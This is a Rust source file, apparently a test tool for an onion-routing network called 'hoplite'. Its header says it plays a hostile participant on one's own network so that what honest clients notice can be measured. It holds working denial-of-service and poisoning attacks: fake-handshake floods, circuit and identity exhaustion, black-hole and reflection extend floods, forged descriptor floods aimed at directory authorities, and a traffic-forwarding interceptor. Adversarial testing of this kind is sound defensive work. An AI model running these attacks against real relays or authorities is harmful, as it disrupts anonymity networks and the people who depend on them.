//! A hostile participant of a network of circuits, for a network of one's own: what honest clients notice is measured beside it (`interop/attacks.py`).
//!
//! ```text
//! hostile LIST RELAY SECONDS skins CHANNELS        circuit handshakes that cost RELAY a key exchange each and this program nothing
//! hostile LIST RELAY SECONDS circuits CHANNELS     as many idle circuits as RELAY lets there be
//! hostile LIST RELAY SECONDS identities COUNT      a relay's channel for each of COUNT identities that nobody knows
//! hostile LIST RELAY SECONDS black-hole ADDRESS    has RELAY extend to every listed relay at an address where nobody answers
//! hostile LIST RELAY SECONDS reflect ADDRESS       has RELAY dial ADDRESS for a new identity, again and again
//! hostile LIST RELAY SECONDS descriptors ADDRESS… hands descriptors of relays that are nowhere to the authorities at these addresses
//! hostile LIST RELAY SECONDS forward NAME ADDRESS  stands at ADDRESS between RELAY and the relay NAME, and passes octets on
//! ```
//! LIST is a file with the authorities' list, RELAY a name in it. It ends after SECONDS and prints one line of JSON.

#![expect(
    clippy::panic,
    clippy::print_stdout,
    clippy::unwrap_used,
    clippy::disallowed_methods,
    reason = "an experiment on the command line: it prints, opens sockets, and whatever fails ends it"
)]

use std::{
    collections::HashMap,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
    time::{Duration, SystemTime},
};

use bytes::BytesMut;
use hoplite_crypto::{
    onion::{
        RelayKeys,
        identity::{RelayIdentity, stand_in},
        ntor3,
        tor1::ClientLayers,
    },
    signing::SigningKey,
};
use hoplite_link::channel::{
    Channel, ChannelDialer, Circuit, Config, Counts, How, Whom, handshake::Us,
};
use hoplite_overlay::{Direct, Error, Terms};
use hoplite_wire::{
    Target,
    cell::{
        BODY, Cell, Command,
        circuit::{ClientExtensions, Create2, Created2, Extend2, HandshakeType, LinkSpecifier},
        relay::{self, StreamId},
    },
    directory::{Descriptor, Key, Signature, SignedDescriptor, SignedList, Stage},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional},
    net::{TcpListener, TcpStream, UdpSocket},
    task::JoinSet,
    time::{Instant, sleep, timeout},
};

/// Counters of what was done and what came of it.
#[derive(Default)]
struct Tally {
    tried: AtomicU64,
    answered: AtomicU64,
    refused: AtomicU64,
    octets: AtomicU64,
}

struct Attack {
    relays: Vec<SignedDescriptor>,
    first: SignedDescriptor,
    until: Instant,
    tally: Tally,
}

impl Attack {
    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }

    fn named(&self, name: &str) -> SignedDescriptor {
        let found = self
            .relays
            .iter()
            .find(|relay| relay.descriptor.name == name);
        found
            .unwrap_or_else(|| panic!("no relay {name} in the list"))
            .clone()
    }

    /// A channel of its own, with an identity or as a client.
    async fn channel(&self, us: Us, how: How) -> Result<Channel, Error> {
        let config = Config::default();
        let link = hoplite_link::Config::default();
        let dialer = ChannelDialer::new(
            Arc::new(Direct::default()),
            us,
            &link,
            config,
            Arc::<Counts>::default(),
        );
        let whom = whom(&self.first);
        let terms = Terms {
            deadline: Some(Instant::now() + Duration::from_secs(5)),
            ..Terms::default()
        };
        dialer.dial(&whom, how, &terms).await
    }

    fn count(&self, good: bool) {
        let counter = if good {
            &self.tally.answered
        } else {
            &self.tally.refused
        };
        counter.fetch_add(1, Relaxed);
    }
}

fn whom(relay: &SignedDescriptor) -> Whom {
    Whom {
        name: relay.descriptor.name.clone(),
        address: Target::from(relay.descriptor.addresses[0]),
        identity: Some(relay.descriptor.identity.0),
        rsa: None,
    }
}

fn keys(relay: &SignedDescriptor) -> RelayKeys {
    let ed25519 = relay.descriptor.identity.0;
    RelayKeys {
        rsa_id: stand_in(&ed25519),
        ed25519,
        onion: relay.descriptor.onion.expect("a relay of circuits"),
    }
}

fn skin(relay: &SignedDescriptor) -> (ntor3::ClientState, Vec<u8>) {
    let mut message = Vec::new();
    ClientExtensions::default().write(&mut message);
    ntor3::client(&keys(relay), &message).unwrap()
}

fn random<const N: usize>() -> [u8; N] {
    let mut octets = [0; N];
    getrandom(&mut octets);
    octets
}

fn getrandom(octets: &mut [u8]) {
    use ring::rand::SecureRandom;
    ring::rand::SystemRandom::new().fill(octets).unwrap();
}

fn create(circuit: &Circuit, skin: &[u8]) -> Cell {
    let create = Create2 {
        handshake: HandshakeType::NTOR_V3,
        data: skin,
    };
    Cell::new(circuit.id, Command::CREATE2, |body| create.write(body)).unwrap()
}

/// A circuit of one hop that is there.
struct Made {
    circuit: Circuit,
    layers: ClientLayers,
}

async fn made(channel: &Channel, relay: &SignedDescriptor) -> Option<Made> {
    let mut circuit = timeout(Duration::from_secs(2), channel.open())
        .await
        .ok()?
        .ok()?;
    let (state, skin) = skin(relay);
    circuit.sender.ready().await.ok()?;
    let cell = create(&circuit, &skin);
    circuit.sender.send(cell).ok()?;
    let cell = timeout(Duration::from_secs(5), circuit.receiver.recv())
        .await
        .ok()??;
    if cell.command != Command::CREATED2 {
        return None;
    }
    let created = Created2::parse(&cell.body).ok()?;
    let (_, seed) = state.finish(created.data).ok()?;
    let mut layers = ClientLayers::new();
    layers.push(&seed).ok()?;
    Some(Made { circuit, layers })
}

/// Has the relay at the circuit's end extend to `relay`, said to be at `address`. What comes back: whether it did.
async fn extend(
    mut made: Made,
    relay: &SignedDescriptor,
    identity: [u8; 32],
    address: SocketAddr,
) -> (bool, Made) {
    let (_, skin) = skin(relay);
    let place = match address {
        SocketAddr::V4(address) => LinkSpecifier::Ipv4(address),
        SocketAddr::V6(address) => LinkSpecifier::Ipv6(address),
    };
    let extend = Extend2 {
        specifiers: vec![place, LinkSpecifier::Ed25519(identity)],
        create: Create2 {
            handshake: HandshakeType::NTOR_V3,
            data: &skin,
        },
    };
    let mut data = Vec::new();
    extend.write(&mut data);
    let mut body = BytesMut::zeroed(BODY);
    let fixed: &mut [u8; BODY] = body.as_mut().try_into().unwrap();
    relay::write(fixed, relay::Command::EXTEND2, StreamId(0), &data).unwrap();
    made.layers.encrypt_for(0, fixed).unwrap();
    let cell = Cell {
        circuit: made.circuit.id,
        command: Command::RELAY_EARLY,
        body,
    };
    if made.circuit.sender.ready().await.is_err() || made.circuit.sender.send(cell).is_err() {
        return (false, made);
    }
    let answer = timeout(Duration::from_secs(35), made.circuit.receiver.recv()).await;
    let extended = answer
        .ok()
        .flatten()
        .is_some_and(|cell| cell.command == Command::RELAY);
    (extended, made)
}

/// One key exchange for the relay, a few random octets for us: it finds only at the end that the handshake is none.
async fn skins(attack: Arc<Attack>, channels: usize) {
    let mut running = JoinSet::new();
    for _ in 0..channels {
        let attack = Arc::clone(&attack);
        running.spawn(async move {
            let (_, template) = skin(&attack.first);
            while !attack.is_over() {
                let Ok(channel) = attack.channel(Us::default(), How::Tls).await else {
                    attack.count(false);
                    sleep(Duration::from_millis(50)).await;
                    continue;
                };
                while channel.is_open() && !attack.is_over() {
                    let Ok(Ok(mut circuit)) =
                        timeout(Duration::from_millis(200), channel.open()).await
                    else {
                        continue;
                    };
                    let mut skin = template.clone();
                    skin[64..96].copy_from_slice(&random::<32>());
                    if circuit.sender.ready().await.is_err() {
                        break;
                    }
                    let cell = create(&circuit, &skin);
                    attack.tally.tried.fetch_add(1, Relaxed);
                    if circuit.sender.send(cell).is_err() {
                        break;
                    }
                    let attack = Arc::clone(&attack);
                    tokio::spawn(async move {
                        let answer = timeout(Duration::from_secs(2), circuit.receiver.recv()).await;
                        attack.count(answer.is_ok_and(|cell| cell.is_some()));
                    });
                    tokio::task::yield_now().await;
                }
            }
        });
    }
    while running.join_next().await.is_some() {}
}

async fn circuits(attack: Arc<Attack>, channels: usize) {
    let mut held = Vec::new();
    for _ in 0..channels {
        let Ok(channel) = attack.channel(Us::default(), How::Tls).await else {
            attack.count(false);
            continue;
        };
        while !attack.is_over() {
            attack.tally.tried.fetch_add(1, Relaxed);
            let made = made(&channel, &attack.first).await;
            attack.count(made.is_some());
            let Some(made) = made else { break };
            held.push(made);
        }
        held.shrink_to_fit();
    }
    tokio::time::sleep_until(attack.until).await;
}

async fn identities(attack: Arc<Attack>, count: usize) {
    let now = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let mut held = Vec::new();
    for _ in 0..count {
        if attack.is_over() {
            break;
        }
        let identity = RelayIdentity::from_secret(&random::<32>(), now).unwrap();
        let us = Us {
            identity: Some(Arc::new(identity)),
            addresses: Vec::new(),
        };
        attack.tally.tried.fetch_add(1, Relaxed);
        match attack.channel(us, How::Tls).await {
            Ok(channel) => {
                attack.count(true);
                held.push(channel);
            }
            Err(_) => attack.count(false),
        }
    }
    tokio::time::sleep_until(attack.until).await;
}

/// One circuit for each question: the relay may end it.
async fn extending(
    attack: Arc<Attack>,
    to: SignedDescriptor,
    identity: Option<[u8; 32]>,
    address: SocketAddr,
) {
    while !attack.is_over() {
        let Ok(channel) = attack.channel(Us::default(), How::Tls).await else {
            attack.count(false);
            sleep(Duration::from_millis(50)).await;
            continue;
        };
        while channel.is_open() && !attack.is_over() {
            let Some(made) = made(&channel, &attack.first).await else {
                break;
            };
            attack.tally.tried.fetch_add(1, Relaxed);
            let identity = identity.unwrap_or_else(random::<32>);
            let (attack, to) = (Arc::clone(&attack), to.clone());
            tokio::spawn(async move {
                let (extended, _made) = extend(made, &to, identity, address).await;
                attack.count(extended);
            });
            sleep(Duration::from_millis(5)).await;
        }
    }
}

/// Passes octets on between whoever comes to `address` and `to`, over TCP and UDP, and counts them.
async fn pass(attack: Arc<Attack>, address: SocketAddr, to: SocketAddr) {
    let listener = TcpListener::bind(address).await.unwrap();
    let socket = Arc::new(UdpSocket::bind(address).await.unwrap());
    let counting = Arc::clone(&attack);
    tokio::spawn(async move {
        while let Ok((mut near, _)) = listener.accept().await {
            let attack = Arc::clone(&counting);
            tokio::spawn(async move {
                let Ok(mut far) = TcpStream::connect(to).await else {
                    return;
                };
                if let Ok((up, down)) = copy_bidirectional(&mut near, &mut far).await {
                    attack.tally.octets.fetch_add(up + down, Relaxed);
                }
            });
        }
    });
    let mut far: HashMap<SocketAddr, Arc<UdpSocket>> = HashMap::new();
    let mut buffer = vec![0; 65_536];
    loop {
        let (length, from) = socket.recv_from(&mut buffer).await.unwrap();
        attack.tally.octets.fetch_add(length as u64, Relaxed);
        let out = match far.get(&from) {
            Some(out) => Arc::clone(out),
            None => {
                let out = Arc::new(UdpSocket::bind((address.ip(), 0)).await.unwrap());
                out.connect(to).await.unwrap();
                far.insert(from, Arc::clone(&out));
                tokio::spawn(back(
                    Arc::clone(&attack),
                    Arc::clone(&out),
                    Arc::clone(&socket),
                    from,
                ));
                out
            }
        };
        out.send(&buffer[..length]).await.ok();
    }
}

/// What comes from the far end for `to`.
async fn back(attack: Arc<Attack>, out: Arc<UdpSocket>, socket: Arc<UdpSocket>, to: SocketAddr) {
    let mut buffer = vec![0; 65_536];
    while let Ok(length) = out.recv(&mut buffer).await {
        attack.tally.octets.fetch_add(length as u64, Relaxed);
        socket.send_to(&buffer[..length], to).await.ok();
    }
}

/// A descriptor that its own key has signed, of a relay with a stranger's address.
fn descriptor(attack: &Attack) -> SignedDescriptor {
    let key = SigningKey::generate().unwrap();
    let [a, b, c] = random::<3>();
    let descriptor = Descriptor {
        name: "nowhere".to_owned(),
        identity: Key(key.public()),
        addresses: vec![([198, 18 | (a & 1), b, c.max(1)], 443).into()],
        onion: Some(random()),
        pin: None,
        operator: None,
        ..attack.first.descriptor.clone()
    };
    let signature = Signature(key.sign(descriptor.text().as_bytes()));
    SignedDescriptor {
        descriptor,
        signature,
    }
}

/// One after the other to each, as fast as it answers.
async fn descriptors(attack: Arc<Attack>, authorities: Vec<SocketAddr>) {
    let mut all = JoinSet::new();
    for authority in authorities {
        let attack = Arc::clone(&attack);
        all.spawn(async move {
            while !attack.is_over() {
                let text = descriptor(&attack).to_string();
                attack.tally.tried.fetch_add(1, Relaxed);
                let answer = timeout(Duration::from_secs(5), post(authority, &text)).await;
                let taken = answer.is_ok_and(|said| said.is_ok_and(|said| said.contains(" 200 ")));
                attack.count(taken);
            }
        });
    }
    while all.join_next().await.is_some() {}
}

async fn post(authority: SocketAddr, text: &str) -> std::io::Result<String> {
    let mut stream = TcpStream::connect(authority).await?;
    let head = format!(
        "POST /hoplite/descriptor HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
        text.len()
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(text.as_bytes()).await?;
    let mut said = String::new();
    stream.read_to_string(&mut said).await?;
    Ok(said)
}

async fn forward(attack: Arc<Attack>, to: SignedDescriptor, address: SocketAddr) {
    tokio::spawn(pass(
        Arc::clone(&attack),
        address,
        to.descriptor.addresses[0],
    ));
    let channel = attack.channel(Us::default(), How::Tls).await.unwrap();
    let made = made(&channel, &attack.first).await.expect("a circuit");
    attack.tally.tried.fetch_add(1, Relaxed);
    let (extended, _held) = extend(made, &to, to.descriptor.identity.0, address).await;
    attack.count(extended);
    println!("{{\"extended\":{extended}}}");
    // What was said to make it is ours; what comes now is others'.
    sleep(Duration::from_secs(1)).await;
    attack.tally.octets.store(0, Relaxed);
    tokio::time::sleep_until(attack.until).await;
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let [list, relay, seconds, what, rest @ ..] = words.as_slice() else {
        panic!("hostile LIST RELAY SECONDS WHAT …: see the head of this file");
    };
    let text = std::fs::read_to_string(list).unwrap();
    let relays = SignedList::parse(&text, Stage::List).unwrap().list.relays;
    let first = relays.iter().find(|known| &known.descriptor.name == relay);
    let attack = Arc::new(Attack {
        first: first.expect("a relay of the list").clone(),
        until: Instant::now() + Duration::from_secs(seconds.parse().unwrap()),
        relays,
        tally: Tally::default(),
    });
    let number = || rest[0].parse().expect("a number");
    let run = Arc::clone(&attack);
    match what.as_str() {
        "skins" => skins(run, number()).await,
        "circuits" => circuits(run, number()).await,
        "identities" => identities(run, number()).await,
        "black-hole" => {
            let mut all = JoinSet::new();
            for to in attack
                .relays
                .iter()
                .filter(|to| to.descriptor.name != *relay)
            {
                let identity = Some(to.descriptor.identity.0);
                all.spawn(extending(
                    Arc::clone(&run),
                    to.clone(),
                    identity,
                    rest[0].parse().unwrap(),
                ));
            }
            while all.join_next().await.is_some() {}
        }
        "reflect" => extending(run, attack.first.clone(), None, rest[0].parse().unwrap()).await,
        "descriptors" => {
            let authorities = rest.iter().map(|text| text.parse().unwrap());
            descriptors(run, authorities.collect()).await;
        }
        "forward" => forward(run, attack.named(&rest[0]), rest[1].parse().unwrap()).await,
        other => panic!("{other}?"),
    }
    let count = |counter: &AtomicU64| counter.load(Relaxed);
    let Tally {
        tried,
        answered,
        refused,
        octets,
    } = &attack.tally;
    println!(
        "{{\"attack\":\"{what}\",\"tried\":{},\"answered\":{},\"refused\":{},\"octets\":{}}}",
        count(tried),
        count(answered),
        count(refused),
        count(octets),
    );
}
